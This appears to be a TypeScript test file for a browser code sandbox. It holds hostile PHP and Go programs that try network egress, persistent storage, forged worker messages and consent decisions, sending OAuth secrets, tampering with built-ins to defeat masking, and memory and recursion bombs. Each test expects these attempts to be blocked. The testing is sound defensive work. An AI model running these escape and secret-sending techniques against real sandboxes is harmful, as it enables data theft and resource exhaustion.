const php: RuntimeUnderTest = {
  label: 'PHP',
  programs: {
    network: {
      program: (target) => `${phpProbe}
$url = 'http://${target}';
[$host, $port] = explode(':', '${target}');
echo 'file_get_contents: ', @file_get_contents("$url/stream") === false ? 'closed' : 'open', "\\n";
echo 'fsockopen: ', @fsockopen($host, (int) $port, $code, $message, 1) === false ? 'closed' : 'open', "\\n";
echo 'Vrzno fetch: ', statusOf(vrzno_await($window->fetch("$url/vrzno-fetch"))) === 'refused' ? 'closed' : 'open', "\\n";
probe([
    'fetch through the prototype' => "dig(self, 'fetch').call(self, '$url/prototype-fetch')",
    'import() through vrzno_eval' => "import('$url/import.js')",
    'importScripts on a prototype' => "dig(self, 'importScripts').call(self, '$url/script.js')",
    'WebSocket' => "new WebSocket('ws://${target}/socket')",
    'EventSource' => "new EventSource('$url/events')",
    'XMLHttpRequest' => 'new XMLHttpRequest()',
    'sendBeacon' => "dig(navigator, 'sendBeacon').call(navigator, '$url/beacon')",
    'nested Worker' => "new Worker('data:text/javascript,fetch(\\"$url/nested\\")')",
]);`,
      lines: [
        'file_get_contents: closed',
        'fsockopen: closed',
        'Vrzno fetch: closed',
        'fetch through the prototype: closed',
        'import() through vrzno_eval: closed',
        'importScripts on a prototype: closed',
        'WebSocket: closed',
        'EventSource: closed',
        'XMLHttpRequest: closed',
        'sendBeacon: closed',
        'nested Worker: closed',
      ],
    },
    mockedFetch: {
      program: `${phpProbe}
$metadata = 'https://auth.example.com/.well-known/oauth-authorization-server';
$body = @file_get_contents($metadata);
echo 'file_get_contents: ', $body === false ? 'refused' : explode(' ', $http_response_header[0] ?? '')[1], "\\n";
echo 'Vrzno fetch: ', statusOf(vrzno_await($window->fetch($metadata))), "\\n";
vrzno_eval("globalThis.prototypeFetch = (url) => dig(self, 'fetch').call(self, url)");
echo 'fetch through the prototype: ', statusOf(vrzno_await($window->prototypeFetch($metadata))), "\\n";`,
      lines: ['file_get_contents: 200', 'Vrzno fetch: 200', 'fetch through the prototype: 200'],
    },
    storage: {
      program: `${phpProbe}
probe([
    'IndexedDB' => "dig(self, 'indexedDB').open('left-behind')",
    'Cache API' => "dig(self, 'caches').open('left-behind')",
    'OPFS' => "dig(navigator, 'storage').getDirectory()",
    'Web Locks' => "dig(navigator, 'locks').request('held', () => new Promise(() => {}))",
    'BroadcastChannel' => "new BroadcastChannel('runs').postMessage('hello')",
]);
$file = @file_get_contents('/tmp/left-behind');
$stored = $window->localStorage->getItem('left-behind');
echo 'left by an earlier run: ', is_string($file) ? $file : (is_string($stored) ? $stored : 'nothing'), "\\n";
file_put_contents('/tmp/left-behind', 'something');
$window->localStorage->setItem('left-behind', 'something');`,
      lines: [
        'IndexedDB: closed',
        'Cache API: closed',
        'OPFS: closed',
        'Web Locks: closed',
        'BroadcastChannel: closed',
        'left by an earlier run: nothing',
      ],
    },
    forgedMessages: {
      program: `${phpProbe}
vrzno_eval(<<<'JS'
globalThis.forgedEnd = { type: 'done', outcome: { kind: 'ok', durationMs: 1 } };
globalThis.forgedLine = { type: 'events', events: [{ kind: 'console', level: 'log', text: 'FORGED' }] };
JS);
probe([
    'postMessage' => 'self.postMessage(forgedEnd)',
    'postMessage on a prototype' => "dig(self, 'postMessage').call(self, forgedLine)",
    'close' => 'self.close()',
]);
// A decision nobody asked for, dispatched on the worker itself: ignored.
vrzno_eval("self.dispatchEvent(new MessageEvent('message', { data: { type: 'consent-decision', id: 1, decision: 'approve' } }))");
vrzno_await($window->pause(200));
echo "the real end\\n";`,
      lines: [
        'postMessage: closed',
        'postMessage on a prototype: closed',
        'close: closed',
        'the real end',
      ],
    },
    // The consent screen through the handler the runtime's glue installed (taken by reflection),
    // with a form read from the hostile page: the page itself is not passed on.
    consentHtml: (target) => `<?php
$page = ${JSON.stringify(hostileHtml(target))};
$form = \\Sandbox\\ConsentForm::parse('<form action="https://example.com/oauth/callback" method="post" data-client-id="OAuthClientId" data-client-name="Hostile client" data-scope="read" data-redirect-uri="https://example.com/oauth/callback"><input type="hidden" name="state" value="s"></form>' . $page);
$handler = (new ReflectionProperty(\\Sandbox\\Browser::class, 'consentHandler'))->getValue();
echo 'decision: ', $handler($form), "\\n";`,
    secretsSent: `<?php${phpSendSecrets}`,
    secretsSentAfterTampering: `<?php
vrzno_eval(<<<'JS'
const identity = function () { return this; };
String.prototype.toLowerCase = identity;
String.prototype.replace = identity;
String.prototype.slice = identity;
String.prototype.indexOf = () => -1;
RegExp.prototype.exec = () => null;
RegExp.prototype.test = () => false;
Array.prototype.join = () => '';
Set.prototype.has = () => false;
Object.entries = () => [];
JS);
${phpSendSecrets}`,
    // A PHP closure on a JavaScript timer that throws: PHP reports it as uncaught, the run goes on.
    uncaughtTimerError: {
      program: `<?php
$window = new Vrzno();
$window->setTimeout(function () { throw new \\RuntimeException('raised in a timer'); }, 0);
echo "still running\\n";`,
      errorLine: /RuntimeException: raised in a timer/,
    },
    outlivesRun: `<?php
$window = new Vrzno();
$window->setTimeout(function () { echo "late\\n"; }, 7000);
$window->setInterval(function () use ($window) { $window->fetch('https://auth.example.com/.well-known/oauth-authorization-server'); }, 1000);
echo "started the timers\\n";`,
    endlessLoop: '<?php\nwhile (true) {\n}',
    memoryBomb: "<?php\n$kept = [];\nwhile (true) {\n    $kept[] = str_repeat('x', 1 << 26);\n}",
    recursionBomb: '<?php\nfunction down($n) { return down($n + 1) + 1; }\ndown(0);',
    hugeOutput: `<?php
echo str_repeat('y', 5_000_000), "\\n";
echo str_repeat("line\\n", 100_000);
throw new Exception(str_repeat('x', 2_000_000));`,
    fatal: [
      {
        name: 'exit(3)',
        program: '<?php\necho "exiting\\n";\nexit(3);',
        status: /^Failed after [^:]*: the program exited with status 3$/,
      },
      {
        name: 'a JavaScript error thrown through PHP’s bridge, which PHP cannot catch',
        program: `<?php\necho "throwing\\n";\nvrzno_eval('(() => { throw new Error("thrown through the bridge"); })()');\necho "not reached\\n";`,
        status:
          /^The runner stopped unexpectedly: the interpreter crashed: .*thrown through the bridge/,
      },
    ],
  },
};

// ---------------------------------------------------------------------------------------------
// Go (Yaegi)

/** A Go program: the imports it needs, its own declarations, and main's body. */
const goProgram = (imports: string[], body: string, declarations = '') => `package main

import (
${imports.map((name) => `\t"${name}"`).join('\n')}
)
${declarations}
func main() {
${body}
}
`;

/** Go has no exceptions: an attempt is closed when it returns an error (or panics). */
const goProbe = `
func probe(name string, attempt func() error) {
	defer func() {
		if recover() != nil {
			fmt.Printf("%s: closed\\n", name)
		}
	}()
	if err := attempt(); err != nil {
		fmt.Printf("%s: closed\\n", name)
		return
	}
	fmt.Printf("%s: open\\n", name)
}

func get(url string) error {
	response, err := http.Get(url)
	if err == nil {
		response.Body.Close()
	}
	return err
}

func dial(network, address string) error {
	connection, err := net.Dial(network, address)
	if err == nil {
		connection.Close()
	}
	return err
}
`;

/** Writes one request to the worker's channel, as the runtime's glue does, and reads the answer. */
const goChannel = `
func channel(request string) (string, error) {
	device, err := os.OpenFile("/dev/runner", os.O_RDWR, 0)
	if err != nil {
		return "", err
	}
	defer device.Close()
	if _, err := device.Write([]byte(request)); err != nil {
		return "", err
	}
	answer := make([]byte, 4096)
	n, err := device.Read(answer)
	return string(answer[:n]), err
}
`;

const goSendSecrets = goProgram(
  ['bytes', 'context', 'encoding/base64', 'fmt', 'mime/multipart', 'net/http', 'strings', 'sdk'],
  `	token := "https://auth.example.com/oauth2/token"
	send := func(request *http.Request) {
		if response, err := http.DefaultClient.Do(request); err == nil {
			response.Body.Close()
		}
	}
	var form bytes.Buffer
	parts := multipart.NewWriter(&form)
	parts.WriteField("grant_type", "password")
	parts.WriteField("client_secret", "OAuthClientSecret")
	parts.WriteField("password", "OAuthPassword")
	parts.Close()
	multipartRequest, _ := http.NewRequest("POST", token, &form)
	multipartRequest.Header.Set("content-type", parts.FormDataContentType())
	send(multipartRequest)
	basic, _ := http.NewRequest("POST", token, strings.NewReader("grant_type=password&username=OAuthUsername&password=OAuthPassword"))
	basic.Header.Set("authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("OAuthClientId:OAuthClientSecret")))
	basic.Header.Set("content-type", "application/x-www-form-urlencoded")
	send(basic)
	json, _ := http.NewRequest("POST", token, strings.NewReader(\`{"clientSecret": "OAuthClientSecret", "password": "OAuthPassword"}\`))
	json.Header.Set("content-type", "application/json")
	json.Header.Set("x-client-secret", "OAuthClientSecret")
	send(json)
	text, _ := http.NewRequest("POST", token, strings.NewReader("client_secret=OAuthClientSecret&password=OAuthPassword"))
	text.Header.Set("content-type", "text/plain")
	send(text)
	query, _ := http.NewRequest("GET", token+"?client_secret=OAuthClientSecret&password=OAuthPassword", nil)
	send(query)
	client := sdk.NewClient(sdk.CreateConfiguration(sdk.WithResourceOwnerAuthCredentials(
		sdk.NewResourceOwnerAuthCredentials("OAuthClientId", "OAuthClientSecret", "OAuthUsername", "OAuthPassword"))))
	client.ResourceOwnerAuthManager().FetchToken(context.Background())
	fmt.Println("sent")`,
);

const go: RuntimeUnderTest = {
  label: 'Go',
  programs: {
    network: {
      program: (target) =>
        goProgram(
          ['fmt', 'net', 'net/http', 'strings', 'time'],
          `	url := "http://${target}"
	probe("net/http Get", func() error { return get(url + "/net-http") })
	probe("net/http Post", func() error {
		response, err := http.Post(url+"/post", "text/plain", strings.NewReader("x"))
		if err == nil {
			response.Body.Close()
		}
		return err
	})
	probe("a client of its own", func() error {
		response, err := (&http.Client{Transport: &http.Transport{}}).Get(url + "/transport")
		if err == nil {
			response.Body.Close()
		}
		return err
	})
	probe("net.Dial tcp", func() error { return dial("tcp", "${target}") })
	// Go on js/wasm dials UDP on an in-process fake network: the "connection" is made without a
	// packet leaving the worker. Closed means nothing answers.
	probe("net.Dial udp", func() error {
		connection, err := net.Dial("udp", "${target}")
		if err != nil {
			return err
		}
		defer connection.Close()
		connection.SetDeadline(time.Now().Add(500 * time.Millisecond))
		if _, err := connection.Write([]byte("hello")); err != nil {
			return err
		}
		_, err = connection.Read(make([]byte, 16))
		return err
	})`,
          goProbe,
        ),
      lines: [
        'net/http Get: closed',
        'net/http Post: closed',
        'a client of its own: closed',
        'net.Dial tcp: closed',
        'net.Dial udp: closed',
      ],
    },
    mockedFetch: {
      program: goProgram(
        ['fmt', 'net/http'],
        `	metadata := "https://auth.example.com/.well-known/oauth-authorization-server"
	for _, client := range []struct {
		name   string
		client *http.Client
	}{{"net/http", http.DefaultClient}, {"a client of its own", &http.Client{Transport: &http.Transport{}}}} {
		response, err := client.client.Get(metadata)
		if err != nil {
			fmt.Printf("%s: refused\\n", client.name)
			continue
		}
		response.Body.Close()
		fmt.Printf("%s: %d\\n", client.name, response.StatusCode)
	}`,
      ),
      lines: ['net/http: 200', 'a client of its own: 200'],
    },
    storage: {
      program: goProgram(
        ['fmt', 'os'],
        `	for _, path := range []string{"/tmp/left-behind", "left-behind", "/src/sdk/left-behind.go"} {
		if err := os.WriteFile(path, []byte("something"), 0o644); err != nil {
			fmt.Printf("write %s: closed\\n", path)
		} else {
			fmt.Printf("write %s: open\\n", path)
		}
	}
	if left, err := os.ReadFile("/tmp/left-behind"); err == nil {
		fmt.Printf("left by an earlier run: %s\\n", left)
	} else {
		fmt.Println("left by an earlier run: nothing")
	}`,
      ),
      lines: [
        'write /tmp/left-behind: closed',
        'write left-behind: closed',
        'write /src/sdk/left-behind.go: closed',
        'left by an earlier run: nothing',
      ],
    },
    forgedMessages: {
      program: goProgram(
        ['fmt', 'os', 'time'],
        `	// The channel the runtime's glue reports the end through: a forged end is refused.
	for _, forged := range []string{
		\`{"op":"return"}\`,
		\`{"op":"panic","value":"FORGED","type":"string"}\`,
		\`{"op":"return","key":""}\`,
	} {
		if _, err := channel(forged); err != nil {
			fmt.Println("forged end: closed")
		} else {
			fmt.Println("forged end: open")
		}
	}
	time.Sleep(200 * time.Millisecond)
	fmt.Println("the real end")`,
        goChannel,
      ),
      lines: ['forged end: closed', 'forged end: closed', 'forged end: closed', 'the real end'],
    },
    // The consent screen through the glue's own channel, with the hostile page in every field
    // the worker reads and in one it does not.
    consentHtml: (target) =>
      goProgram(
        ['encoding/json', 'fmt', 'os'],
        `	request, _ := json.Marshal(map[string]interface{}{
		"op":          "consent",
		"clientId":    "OAuthClientId",
		"clientName":  "Hostile client " + page,
		"redirectUri": "https://example.com/oauth/callback",
		"scope":       "read",
		"state":       page,
		"html":        page,
	})
	decision, err := channel(string(request))
	if err != nil {
		fmt.Println("consent:", err)
		os.Exit(1)
	}
	fmt.Printf("decision: %s\\n", decision)`,
        `${goChannel}
const page = ${JSON.stringify(hostileHtml(target))}
`,
      ),
    secretsSent: goSendSecrets,
    // Go reaches no JavaScript (Yaegi has no syscall/js): the built-ins masking uses are out of
    // its reach, and its requests are the same bytes.
    secretsSentAfterTampering: goSendSecrets,
    uncaughtTimerError: {
      notApplicable:
        'Go has no callbacks that throw past the program: a panic in a timer’s goroutine ends the program with exit status 2, as natively (see the fatal cases), and Yaegi has no syscall/js to reach JavaScript timers',
    },
    outlivesRun: goProgram(
      ['fmt', 'net/http', 'time'],
      `	go func() {
		time.Sleep(7 * time.Second)
		fmt.Println("late")
	}()
	go func() {
		for {
			time.Sleep(time.Second)
			if response, err := http.Get("https://auth.example.com/.well-known/oauth-authorization-server"); err == nil {
				response.Body.Close()
			}
		}
	}()
	fmt.Println("started the timers")`,
    ),
    endlessLoop: goProgram([], '\tfor {\n\t}'),
    memoryBomb: goProgram(
      [],
      '\tkept := [][]byte{}\n\tkept = append(kept, make([]byte, 1<<40))\n\t_ = kept',
    ),
    recursionBomb: goProgram([], '\tdown(0)', '\nfunc down(n int) int { return down(n+1) + 1 }\n'),
    hugeOutput: goProgram(
      ['fmt', 'strings'],
      `	fmt.Println(strings.Repeat("y", 5_000_000))
	fmt.Print(strings.Repeat("line\\n", 100_000))
	panic(strings.Repeat("x", 2_000_000))`,
    ),
    fatal: [
      {
        name: 'os.Exit(3)',
        program: goProgram(['fmt', 'os'], '\tfmt.Println("exiting")\n\tos.Exit(3)'),
        status: /^Failed after [^:]*: the program exited with status 3$/,
      },
      {
        name: 'a panic in a timer’s goroutine, which ends the program (exit status 2)',
        program: goProgram(
          ['fmt', 'time'],
          `	time.AfterFunc(0, func() { panic("raised in a timer") })
	time.Sleep(5 * time.Second)
	fmt.Println("not reached")`,
        ),
        status: /^Failed after [^:]*: the program exited with status 2$/,
      },
    ],
  },
};

/** Every language that runs in the page, and its hostile programs. */
export const runtimesUnderTest: RuntimeUnderTest[] = [typescript, python, ruby, php, go];
